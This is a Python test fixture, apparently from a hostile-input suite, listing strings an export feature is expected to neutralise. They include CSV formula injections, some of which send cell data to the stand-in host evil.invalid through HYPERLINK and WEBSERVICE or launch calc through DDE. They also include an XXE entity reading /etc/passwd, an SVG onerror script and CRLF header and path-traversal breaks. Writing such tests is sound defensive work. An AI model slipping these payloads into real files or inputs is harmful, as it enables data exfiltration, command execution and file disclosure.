"""Texts that mean something to a spreadsheet, a feed reader or a file system."""

from tests.hostile.case import Case

_FORMULAS = {
    "csv_eq": "=1+1",
    "csv_minus": "-1+1",
    "csv_at": "@SUM(1,1)",
    "csv_tab": "\t=1+1",
    "csv_cr": "\r=1+1",
    "csv_hyperlink": '=HYPERLINK("https://evil.invalid/?x="&A1,"click")',
    "csv_webservice": '=WEBSERVICE("https://evil.invalid/"&A1)',
    "csv_fullwidth": "＝1+1",
    "csv_pipe": "|calc",
    # Neighbours.
    "csv_plus": "+1+1",
    "csv_dde": "=cmd|' /C calc'!A0",
    "csv_space": "  =1+1",
    "csv_newline": "\n=1+1",
    "csv_no_break": "\u00a0=1+1",
    "csv_fullwidth_at": "＠SUM(1)",
    "csv_quote_break": '";=1+1;"',
    "csv_semicolon": "x;=1+1",
    "csv_zero_width": "\u200b=1+1",
}
_GOOD = {
    "csv_valid_minus_number": "-5",
    "csv_valid_at_handle": "@team",
    "csv_valid_plus": "+31 20 1234",
    "csv_valid_equals": 'a = b; "c"',
}
_BREAKS = {
    "xml_break": "]]>&<x/>\\u000b",
    "svg_break": "</title></svg></text><img src=x onerror=window.__pwned=1>",
    "filename_break": "a/../../b\r\nContent-Disposition: x",
    "json_break": '"},{"x":"\\',
    "header_break": "a\r\nSet-Cookie: x=1",
    "xml_entity": "&xxe; <!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "xml_comment": "--> ]]> <![CDATA[",
}  # fmt: skip

CASES = (
    *(Case(f"export/{name}", "inert", text=text) for name, text in _FORMULAS.items()),
    *(Case(f"export/{name}", "accept", text=text, kept=(text,)) for name, text in _GOOD.items()),
    *(Case(f"export/{name}", "inert", text=text) for name, text in _BREAKS.items()),
)
